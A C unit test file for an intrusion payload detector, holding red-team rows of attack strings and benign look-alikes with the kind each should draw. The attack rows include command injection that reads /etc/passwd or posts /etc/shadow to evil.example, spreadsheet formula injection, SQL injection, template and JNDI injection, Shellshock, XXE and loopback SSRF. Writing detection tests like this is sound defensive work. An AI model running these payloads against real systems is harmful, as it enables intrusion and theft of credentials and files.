/* test_payload_rt.c - issue 20: forms a red team that had not seen our
 * generators found missed (or benign values it found flagged), one row per
 * construct, each written here from the construct rather than copied from
 * their tables. Every value is judged as a query parameter value
 * (payload_scan) and as a form body "a=1&q=<percent-encoded value>"
 * (payload_scan_query): an attack must draw its own kind in both, a benign
 * value nothing in either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define S PAYLOAD_SQLI
#define N PAYLOAD_NONE

/* '#' glued to the command word: the shell reads it as part of the word
 * only when it does not start one, but payload lists end a command so */
static void test_cmdi_hash_glued(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";id#", C},
		{"|id#", C},
		{"10.0.0.7|id#", C},
		{"1;sleep 5#", C},
		{"x;uname -a#", C},
		{"&&whoami#", C},
		{"#hashtag;id card", N},
		{"issue #5; see #6", N},
	};
	rt_run("cmdi-hash", t, sizeof(t) / sizeof(t[0]));
}

/* a command's file argument after its first word: grep WORD /etc/x */
static void test_cmdi_later_args(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";grep root /etc/passwd", C},
		{";awk '{print}' /etc/passwd", C},
		{"|sort -u /etc/group", C},
		{"; grep the docs for it", N},
		{"Q&A; grep for a word in vim", N},
	};
	rt_run("cmdi-args", t, sizeof(t) / sizeof(t[0]));
}

/* command words the lists did not know, after a leading separator and
 * with an option or a file argument, or bare probes */
static void test_cmdi_more_words(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";getent passwd", C},
		{"|getent passwd\"", C},
		{";lsb_release -a", C},
		{";sed -n 1p /etc/passwd", C},
		{";openssl s_client -connect evil:443", C},
		{";ip a", C},
		{"1;ip addr", C},
		{";expr 5 + 5", C},
		{"1;$0 -c id", C},
		{";${PATH:0:1}bin${PATH:0:1}id", C},
		{";$(printf 'id')", C},
		{"1\r\nreg query HKLM", C},
		{"\"$(dir)", C},
		{"1'$(getent group)\"", C},
		{"1'$(getent{,}group)\"", C},
		{"ip address; phone", N},
		{"last name; first name", N},
		{"w; h; d", N},
		{"; whoami; echo '", C},
		{"10.0.0.9; id; echo done", C},
		{"a | id | cat", C},
		{"x\"|whoami|\"y", C},
		{"see `make && id` here", C},
		{"say \"name|id\" twice", N},
		{"is `` `pwd` `` the same?", N},
		{"a\nid\necho ok", C},
		{"x$(id)y", C},
		{"-oProxyCommand=sh -c id", C},
		{"--checkpoint=1 --checkpoint-action=exec=sh x.sh", C},
		{"-o /var/www/html/x.php http://evil.example/x", C},
		{"--post-file=/etc/shadow http://evil.example/", C},
		{"-e /bin/bash", C},
		{"name; id; email", N},
		{"sleep; eat; repeat", N},
		{"-o output.txt", N},
		{"--verbose", N},
		{"-e mail", N},
		{"=cmd|' /C notepad'!A1", C},
		{"@SUM(2+2)*cmd|' /C calc'!B2", C},
		{"=DDE(\"cmd\";\"/C calc\";\"!A0\")", C},
		{"=SUM(A1:A9)", N},
		{"+1 (555) 010-9999", N},
	};
	rt_run("cmdi-words", t, sizeof(t) / sizeof(t[0]));
}

/* values with a command in them that do nothing harmful */
static void test_cmdi_benign(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"The command `ls -la` lists files", N},
		{"git log --oneline | head -5", N},
		{"wc -l *.txt | sort -n", N},
		{"du -sh * | sort -h", N},
		{"what does `$(hostname)` print?", N},
	};
	rt_run("cmdi-benign", t, sizeof(t) / sizeof(t[0]));
}

/* MySQL's integer division, XOR, LIMIT and := in a numeric or quoted
 * context; arithmetic on both sides of a comparison */
static void test_sqli_operators(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 DIV 0", S},
		{"1 AND 1 DIV 1", S},
		{"1')\tDIV\t0\t#", S},
		{"-8212' DIV 0 /*", S},
		{"1 XOR 0", S},
		{"1' XOR '1", S},
		{"1 LIMIT 1,1", S},
		{"1 AND @a:=1", S},
		{"1/**/and@a:=1", S},
		{"-1 OR 3*7-20=1", S},
		{"1% AND 7 BETWEEN 1 AND 9", S},
		{"1,(SELECT 1)", S},
		{"CASE WHEN 1=1 THEN 1 ELSE 0 END", S},
		{"price lt 10 or 2 eq 2", S},
		{"sku,title,(select secret from tokens limit 1)", S},
		{"milk, eggs, (select brand)", N},
		{"'=0-- ", S},
		{"div 0 by mistake", N},
		{"xor gate", N},
		{"2+2=4", N},
		{"Rock & Roll, Vol. 1 (Select Edition)", N},
		{"a:=1 in Pascal", N},
		{"CASE WHEN qty > 10 THEN 'bulk' ELSE 'retail' END", N},
	};
	rt_run("sqli-ops", t, sizeof(t) / sizeof(t[0]));
}

/* calls named like SQL's delays that are methods of a language object */
static void test_sqli_benign(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"time.sleep(5)", N},
		{"Thread.sleep(1000)", N},
		{"await asyncio.sleep(2)", N},
		{"1 AND SLEEP(5)", S},
		{"1' AND sleep(5)-- -", S},
		{"1 AND 1=DBMS_LOCK.SLEEP(5)", S},
		{"1') AND 5=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND ('a'='a", S},
	};
	rt_run("sqli-benign", t, sizeof(t) / sizeof(t[0]));
}

#define T PAYLOAD_SSTI

/* template syntaxes the delimiter table read wrong or not at all */
static void test_ssti_syntaxes(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"{{= 7*7}}", T},
		{"<%- 6*6 %>", T},
		{"@{9*9}", T},
		{"<%= `id` %>", T},
		{"${pageContext.request}", T},
		{"${sessionScope}", T},
		{"{{.}}", T},
		{"{{printf \"%s\" .Password}}", T},
		{"<%@ page import=\"java.io.*\" %>", T},
		{"${{<%[%'\"}}%\\", T},
		{"{{ user.name }}", N},
		{"@{user}", N},
		{"${price} per month", N},
		{"<% if you like %>", N},
		{"{{print}}", N},
		{"${${base64:JHtqbmRpOmRuczovL3h9}}", PAYLOAD_JNDI},
		{"${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", PAYLOAD_JNDI},
		{"${dns:address|x.evil.example}", PAYLOAD_JNDI},
	};
	rt_run("ssti", t, sizeof(t) / sizeof(t[0]));
}

/* Shellshock's no-op body after a word, NoSQL operators of the
 * aggregation and text stages, a field compared with blanks around ==,
 * __proto__ after a URL's ? or #, or rejoined when a filter strips it once */
static void test_data_forms(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"Wget/1.21 () { :; }; /bin/cat /etc/shadow", PAYLOAD_SHELLSHOCK},
		{"f() { :;}; echo x", PAYLOAD_SHELLSHOCK},
		{"{\"$lookup\":{\"from\":\"admins\"}}", PAYLOAD_NOSQLI},
		{"{\"$text\":{\"$search\":\"a\"}}", PAYLOAD_NOSQLI},
		{"this.role == this.role", PAYLOAD_NOSQLI},
		{"0; return true", PAYLOAD_NOSQLI},
		{"3; return 1", PAYLOAD_NOSQLI},
		{"2; return policy applies", N},
		{"2; return 10 items", N},
		{"#__proto__[isAdmin]=1", PAYLOAD_PROTO_POLLUTION},
		{"/?__proto__[k]=v", PAYLOAD_PROTO_POLLUTION},
		{"__pr__proto__oto__[k]=v", PAYLOAD_PROTO_POLLUTION},
		{"function go() { return 1; }; go()", N},
		{"what is () { :;}; about? read on", N},
		{"() { return this.x; }", N},
		{"() { return this.x; }/results", N},
		{"() { foo; }\nid", PAYLOAD_SHELLSHOCK},
		{"() { :; }", PAYLOAD_SHELLSHOCK},
		{"() { _; } >_[$($())] { id; }", PAYLOAD_SHELLSHOCK},
		{"see docs#proto for __proto___fields", N},
		{"{\"text\":\"$5 off\"}", N},
	};
	rt_run("data", t, sizeof(t) / sizeof(t[0]));
}

/* a comment mark that is itself quoted, a word between blanks, a
 * markdown fence: prose and markup, not the constructs they name */
static void test_quoted_marks(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<a href=\"#top\">top</a>", N},
		{"<span style=\"color:#336699\">blue</span>", N},
		{"Dial \"#\" twice for reception", N},
		{"'--' is how we write a dash", N},
		{"\"--\"", N},
		{"'#'", N},
		{"bg=\"#fafafa\"", N},
		{"' --'", S},
		{"'--", S},
		{"admin\"#", S},
		{"x' --", S},
		{"x' -- '", S},
		/* the login bypass with the mark quoted to pass for markup: a
		 * value glued to the break is no attribute or prose */
		{"admin'#'x", S},
		{"admin' #'1", S},
		{"how is __proto__ different?", N},
		{"{ __proto__: {\"a\":1}}", PAYLOAD_PROTO_POLLUTION},
		{"```js let i = 0; i++ ```", N},
	};
	rt_run("marks", t, sizeof(t) / sizeof(t[0]));
}

/* a URL with its query string as a value (a Referer, a redirect target,
 * a link in a JSON beacon): the reader splits it at '&' before a value
 * reaches SQL, so "size 10 and 11&page=2" is no comparison of 11 & page
 * with 2 (reviewer D: 179 of 20000 search URLs drew an sqli kill as a
 * Referer); an injection in one of its parameters still counts */
static void test_url_query_in_value(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"https://shop.example/search?q=shoes size 10 and 11&page=2", N},
		{"https://shop.example/search?q=red or blue size 2&page=2", N},
		{"/search?q=shoes+size+10+and+11&page=2", N},
		{"q=shoes size 10 and 11&sort=price&page=3", N},
		{"https://x.example/?a=1&id=1' or '1'='1", S},
		{"https://x.example/?id=1' or 1=1-- -&page=2", S},
		{"/item?id=1 and 1=1&page=2", S},
		{"1 and 1&1=1", S},
	};
	rt_run("url-query", t, sizeof(t) / sizeof(t[0]));
}

/* documents and prose a page or a forum post carries (reviewer D): the
 * XHTML 1.0 specification's own DOCTYPE with its relative system literal,
 * the W3C's copy without www or scheme, HTML5's legacy-compat doctype, a
 * sentence naming a declaration; the XXE forms beside them still count */
static void test_xxe_pages(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"DTD/xhtml1-strict.dtd\">", N},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" \"http://w3.org/TR/xhtml11/DTD/xhtml11.dtd\"><html/>", N},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" \"//www.w3.org/TR/xhtml11/DTD/xhtml11.dtd\">", N},
		{"<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html><body>hi</body></html>", N},
		{"In a DTD you declare an element with <!ELEMENT note (to,from,body)> and more.", N},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\">", PAYLOAD_XXE},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"../../../etc/passwd\">", PAYLOAD_XXE},
		{"<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>", PAYLOAD_XXE},
		{"<!ELEMENT foo ANY >", PAYLOAD_XXE},
		{"<!DOCTYPE foo [<!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>", PAYLOAD_XXE},
	};
	rt_run("xxe-pages", t, sizeof(t) / sizeof(t[0]));
}

/* "//" then one small number is no host: base64 that opens so (a JPEG's
 * "//9/...") drew ssrf 70 (reviewer D); loopback spelt as one number
 * still counts */
static void test_ssrf_one_number(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"//9/7LVNKgXjnoyZysITZsosiQMuWo1jUku4GBRNnR3g_GSWX5dYhil9sPhv1_5Y5vEs60uv3aXdKk3jcZRsZ", N},
		{"//0/admin", PAYLOAD_SSRF},
		{"//2130706433/admin", PAYLOAD_SSRF},
		{"//0x7f000001/x", PAYLOAD_SSRF},
		{"//10.0.0.1/x", PAYLOAD_SSRF},
	};
	rt_run("ssrf-number", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmdi_hash_glued),
		cmocka_unit_test(test_cmdi_later_args),
		cmocka_unit_test(test_cmdi_more_words),
		cmocka_unit_test(test_cmdi_benign),
		cmocka_unit_test(test_sqli_operators),
		cmocka_unit_test(test_sqli_benign),
		cmocka_unit_test(test_ssti_syntaxes),
		cmocka_unit_test(test_data_forms),
		cmocka_unit_test(test_quoted_marks),
		cmocka_unit_test(test_url_query_in_value),
		cmocka_unit_test(test_xxe_pages),
		cmocka_unit_test(test_ssrf_one_number),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
